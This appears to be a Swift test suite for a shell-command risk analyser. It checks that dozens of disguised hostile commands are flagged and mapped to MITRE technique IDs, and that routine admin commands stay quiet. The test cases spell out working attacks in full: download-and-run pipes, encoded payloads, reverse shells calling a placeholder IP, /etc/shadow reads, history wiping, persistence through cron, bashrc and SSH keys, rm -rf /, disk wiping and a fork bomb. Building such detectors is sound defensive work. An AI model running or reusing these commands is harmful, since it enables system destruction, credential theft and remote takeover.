import ShellAnalysis
import Testing

/// Every rule, the evasion we thought of, and proof that it is caught. Each case names the
/// disguise; the verdict must reach at least `atLeast`, and list `technique` when given.
@Suite struct EvasionTests {
    struct Case: Sendable, CustomStringConvertible {
        var evasion: String
        var command: String
        var atLeast: RiskLevel
        var technique: String? = nil
        var description: String { evasion }
    }

    static let cases: [Case] = [
        // Download and run.
        Case(evasion: "plain curl piped to bash", command: "curl -fsSL http://example.com/x.sh | bash", atLeast: .critical, technique: "T1105"),
        Case(evasion: "wget to stdout piped to sh", command: "wget -qO- http://example.com/x | sh", atLeast: .critical, technique: "T1105"),
        Case(evasion: "bash -c with command substitution of curl", command: #"bash -c "$(curl -s http://example.com/i.sh)""#, atLeast: .critical, technique: "T1105"),
        Case(evasion: "process substitution fed to bash", command: "bash <(curl -s http://example.com/i.sh)", atLeast: .critical, technique: "T1105"),
        Case(evasion: "source of a process substitution", command: "source <(wget -qO- http://example.com/i.sh)", atLeast: .critical),
        Case(evasion: "download to a file, then run it", command: "curl -o /tmp/u http://example.com/u; chmod +x /tmp/u; /tmp/u", atLeast: .critical, technique: "T1105"),
        Case(evasion: "eval of downloaded text", command: #"eval "$(curl -s http://example.com/x)""#, atLeast: .critical),
        Case(evasion: "python reading a script from curl", command: "curl -s http://example.com/p.py | python3", atLeast: .critical),
        // Encoded payloads.
        Case(evasion: "base64 payload piped to bash", command: "echo cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290 | base64 -d | bash", atLeast: .critical, technique: "T1140"),
        Case(evasion: "base64 payload inside the decoded text is read too", command: "echo cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290 | base64 -d | bash", atLeast: .critical, technique: "T1485"),
        Case(evasion: "here-string to base64 then sh", command: "base64 -d <<< Y2F0IC9ldGMvc2hhZG93 | sh", atLeast: .critical),
        Case(evasion: "hex payload with xxd", command: "echo 636174202f6574632f736861646f77 | xxd -r -p | bash", atLeast: .critical, technique: "T1003.008"),
        Case(evasion: "printf escapes run by sh", command: #"printf '\x63\x61\x74\x20\x2f\x65\x74\x63\x2f\x73\x68\x61\x64\x6f\x77' | sh"#, atLeast: .critical),
        Case(evasion: "reversed text run by bash", command: "echo 'wodahs/cte/ tac' | rev | bash", atLeast: .critical),
        Case(evasion: "rot13 with tr", command: "echo 'png /rgp/funqbj' | tr 'a-z' 'n-za-m' | sh", atLeast: .critical),
        Case(evasion: "eval of a decoded payload", command: #"eval "$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)""#, atLeast: .critical, technique: "T1003.008"),
        Case(evasion: "compressed payload", command: "echo H4sIAAAA | base64 -d | gunzip | bash", atLeast: .critical),
        // Quoting and variables.
        Case(evasion: "empty quotes inside the name", command: "b''a''s''h -c 'cat /etc/shadow'", atLeast: .high, technique: "T1003.008"),
        Case(evasion: "backslash inside the name", command: #"c\at /e\tc/sha\dow"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "ANSI-C hex name", command: #"$'\x62\x61\x73\x68' -c id"#, atLeast: .high, technique: "T1027"),
        Case(evasion: "name built from variables", command: #"X=ba;Y=sh;$X$Y -c "cat /etc/shadow""#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "IFS instead of spaces", command: "cat${IFS}/etc/shadow", atLeast: .high, technique: "T1003.008"),
        Case(evasion: "substring of a variable", command: #"a=xxcatxx; ${a:2:3} /etc/shadow"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "replacement in a variable", command: #"a=cXt; ${a/X/a} /etc/shadow"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "indirect variable", command: #"p=/etc/shadow; n=p; cat ${!n}"#, atLeast: .high, technique: "T1003.008"),
        // Wrappers and nesting.
        Case(evasion: "sudo env nohup wrapper chain", command: "sudo env X=1 nohup rm -rf /", atLeast: .critical, technique: "T1485"),
        Case(evasion: "timeout and nice", command: "timeout 10 nice -n 5 cat /etc/shadow", atLeast: .high, technique: "T1003.008"),
        Case(evasion: "xargs running sh -c", command: #"echo x | xargs -I{} sh -c 'cat /etc/shadow'"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "find -exec running a shell", command: #"find . -exec /bin/sh \; -quit"#, atLeast: .high, technique: "T1059.004"),
        Case(evasion: "su -c", command: #"su -c 'history -c' root"#, atLeast: .high, technique: "T1070.003"),
        Case(evasion: "ssh remote command", command: #"ssh admin@10.0.0.5 'cat /etc/shadow'"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "docker exec", command: "docker exec -it web cat /etc/shadow", atLeast: .high, technique: "T1003.008"),
        Case(evasion: "kubectl exec", command: "kubectl exec -it pod -- rm -rf /", atLeast: .critical),
        Case(evasion: "busybox applet", command: "busybox nc 10.0.0.1 4444 -e /bin/sh", atLeast: .critical),
        Case(evasion: "nested sh -c three deep", command: #"sh -c "bash -c 'sh -c \"cat /etc/shadow\"'""#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "command substitution hides the command", command: "$(echo cat) /etc/shadow", atLeast: .high, technique: "T1003.008"),
        // Files written then run (the fix_servers.sh case).
        Case(evasion: "here-document written to a script, then run", command: "cat > fix_servers.sh <<'EOF'\necho fixing\ncurl -s http://example.com/k | bash\nEOF\nbash fix_servers.sh", atLeast: .critical, technique: "T1105"),
        Case(evasion: "echo into a script, chmod, run", command: "echo 'rm -rf /' > fix.sh; chmod +x fix.sh; ./fix.sh", atLeast: .critical, technique: "T1485"),
        Case(evasion: "printf into a python file, then run", command: #"printf 'import os\nos.system("cat /etc/shadow")\n' > t.py; python3 t.py"#, atLeast: .high, technique: "T1003.008"),
        // Reverse shells.
        Case(evasion: "bash /dev/tcp reverse shell", command: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", atLeast: .critical, technique: "T1059.004"),
        Case(evasion: "exec with /dev/tcp descriptors", command: "exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | while read l; do $l 2>&5 >&5; done", atLeast: .high, technique: "T1095"),
        Case(evasion: "nc -e", command: "nc 203.0.113.5 4444 -e /bin/bash", atLeast: .critical),
        Case(evasion: "mkfifo and nc", command: "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f", atLeast: .critical, technique: "T1059.004"),
        Case(evasion: "python socket reverse shell", command: #"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#, atLeast: .critical, technique: "T1059.004"),
        Case(evasion: "perl socket reverse shell", command: #"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");exec("/bin/sh -i");'"#, atLeast: .critical),
        Case(evasion: "awk /inet/tcp", command: #"awk 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while(1){printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'"#, atLeast: .critical),
        Case(evasion: "socat exec", command: "socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr", atLeast: .high),
        // Interpreters running shell commands.
        Case(evasion: "python os.system", command: #"python3 -c 'import os; os.system("cat /etc/shadow")'"#, atLeast: .high, technique: "T1003.008"),
        Case(evasion: "python decoding and exec", command: #"python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'"#, atLeast: .critical, technique: "T1140"),
        Case(evasion: "perl exec shell", command: #"perl -e 'exec "/bin/sh";'"#, atLeast: .high, technique: "T1059.004"),
        Case(evasion: "vim shell escape", command: #"vim -c ':!/bin/sh'"#, atLeast: .high, technique: "T1059.004"),
        Case(evasion: "tar checkpoint action", command: "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", atLeast: .high),
        // Defence evasion, persistence, destruction.
        Case(evasion: "history wiping", command: "history -c", atLeast: .high, technique: "T1070.003"),
        Case(evasion: "HISTFILE unset", command: "unset HISTFILE", atLeast: .high, technique: "T1562.003"),
        Case(evasion: "HISTFILE to /dev/null via export", command: "export HISTFILE=/dev/null", atLeast: .high, technique: "T1562.003"),
        Case(evasion: "history off with set", command: "set +o history", atLeast: .high),
        Case(evasion: "LD_PRELOAD on a command", command: "LD_PRELOAD=/tmp/x.so ls", atLeast: .high, technique: "T1574.006"),
        Case(evasion: "authorized_keys append", command: "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", atLeast: .high, technique: "T1098.004"),
        Case(evasion: "cron through crontab -", command: #"(crontab -l; echo "* * * * * curl -s http://example.com/b | sh") | crontab -"#, atLeast: .high, technique: "T1053.003"),
        Case(evasion: "bashrc persistence with a download", command: "echo 'curl -s http://example.com/b | bash' >> ~/.bashrc", atLeast: .critical, technique: "T1546.004"),
        Case(evasion: "rm -rf of the root", command: "rm -rf --no-preserve-root /", atLeast: .critical, technique: "T1485"),
        Case(evasion: "rm with split flags", command: "rm -r -f /etc", atLeast: .critical, technique: "T1485"),
        Case(evasion: "dd over a disk", command: "dd if=/dev/zero of=/dev/sda bs=1M", atLeast: .critical),
        Case(evasion: "fork bomb", command: ":(){ :|:& };:", atLeast: .critical, technique: "T1499"),
        Case(evasion: "setuid bit", command: "chmod u+s /bin/bash", atLeast: .high, technique: "T1548.001"),
        Case(evasion: "grep for passwords", command: "grep -ri password /etc /home", atLeast: .high, technique: "T1552.001"),
        Case(evasion: "arithmetic hiding a substitution", command: "echo $(( $(curl -s http://example.com/n | bash) + 1 ))", atLeast: .critical),
        Case(evasion: "alias that runs a download", command: "alias ls='curl -s http://example.com/x | sh'", atLeast: .critical),
        Case(evasion: "trap running a payload later", command: "trap 'rm -rf /' EXIT", atLeast: .critical),
        Case(evasion: "program name from decoded data", command: "$(echo YmFzaA== | base64 -d) -c id", atLeast: .high),
        // Fail closed.
        Case(evasion: "unfinished input", command: "curl http://x | bash '", atLeast: .high),
        Case(evasion: "syntax error", command: "echo ) rm -rf /", atLeast: .high),
        Case(evasion: "an unknown program is never below medium", command: "frobnicate --all", atLeast: .medium),
        // Copies: what lands where.
        Case(evasion: "copy over a sensitive file", command: "cp /tmp/evil /etc/shadow", atLeast: .critical, technique: "T1098"),
        Case(evasion: "copy into a sensitive folder, named by the source", command: "cp /tmp/shadow /etc", atLeast: .critical, technique: "T1098"),
        Case(evasion: "copy into a sensitive folder with -t", command: "cp -t /etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
        Case(evasion: "copy into a sensitive folder with --target-directory=", command: "cp --target-directory=/etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
        Case(evasion: "copy into a sensitive folder with -tDIR", command: "cp -t/etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
        Case(evasion: "relative source copied into a sensitive folder", command: "cd /tmp && install shadow /etc/", atLeast: .critical, technique: "T1098"),
        Case(evasion: "moving a sensitive file away changes it", command: "mv /etc/shadow /tmp/x", atLeast: .critical, technique: "T1098"),
        Case(evasion: "a link planted over a sensitive file", command: "ln -sf /tmp/evil /etc/shadow", atLeast: .critical, technique: "T1098"),
        Case(evasion: "copying a sensitive file out is credential access", command: "cp /etc/shadow /tmp/leak", atLeast: .high, technique: "T1003.008"),
    ]

    @Test(arguments: cases)
    func caught(_ c: Case) throws {
        let analyser = try Analyser.bundled().get()
        let a = analyser.analyse(c.command)
        #expect(a.risk >= c.atLeast, "\(c.evasion): `\(c.command)` was \(a.risk): \(a.summary)")
        if let t = c.technique {
            #expect(a.techniques.contains(t), "\(c.evasion): expected \(t) in \(a.techniques)")
        }
        for f in a.findings {
            #expect(f.range.start >= 0 && f.range.end <= c.command.utf8.count, "range \(f.range) outside the input")
        }
    }

    /// Everyday administration must not drown the escort in alarms.
    static let benign: [(String, RiskLevel)] = [
        ("ls -la /var/www", .low),
        ("df -h", .low),
        ("ps aux | grep nginx", .low),
        ("uptime", .low),
        ("cat /var/log/nginx/access.log | tail -n 50", .low),
        ("grep -r 'error' /var/log/app/ | wc -l", .low),
        ("systemctl status nginx", .low),
        ("du -sh /var/* | sort -h", .low),
        ("echo hello world", .none),
        ("for f in *.log; do gzip \"$f\"; done", .medium),
        ("git status && git log --oneline -5", .low),
        ("free -m", .low),
    ]

    @Test(arguments: benign.indices)
    func everydayWorkStaysQuiet(_ i: Int) throws {
        let (command, atMost) = Self.benign[i]
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk <= atMost, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(!a.explanation.isEmpty || command.hasPrefix("echo"), "`\(command)` has no explanation")
    }

    /// A copy reads its sources and writes its destination: the escort is told which.
    @Test func aCopyReadsItsSourcesAndWritesItsDestination() throws {
        let analyser = try Analyser.bundled().get()
        let out = analyser.analyse("cp /etc/shadow /tmp/leak")
        #expect(out.risk == .high, "\(out.risk): \(out.summary)")
        #expect(out.findings.contains { $0.reason.hasPrefix("Reads `/etc/shadow`") }, "\(out.findings.map(\.reason))")
        #expect(!out.findings.contains { $0.reason.hasPrefix("Changes `/etc/shadow`") }, "\(out.findings.map(\.reason))")
        let over = analyser.analyse("cp -t /etc /tmp/shadow")
        #expect(over.findings.contains { $0.reason.hasPrefix("Changes `/etc/shadow`") }, "\(over.findings.map(\.reason))")
    }

    @Test func findingsPointAtTheCause() throws {
        let command = "ls /tmp; cat /etc/shadow"
        let a = try Analyser.bundled().get().analyse(command)
        let shadow = try #require(a.findings.first { $0.technique == "T1003.008" })
        let bytes = Array(command.utf8)
        let text = String(decoding: bytes[shadow.range.start..<shadow.range.end], as: UTF8.self)
        #expect(text.contains("/etc/shadow"))
    }
}
